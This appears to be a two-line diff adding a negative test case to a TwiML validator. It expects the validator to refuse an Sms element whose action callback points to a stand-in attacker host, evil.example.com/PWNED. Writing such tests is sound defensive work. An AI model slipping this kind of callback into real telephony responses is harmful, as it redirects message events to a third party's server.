@@ -1,0 +1,2 @@
+# class: action of Sms to a foreign host; expected: refused twiml
+response = '<Response><Sms to="+46709999999" action="https://evil.example.com/PWNED">x</Sms></Response>'
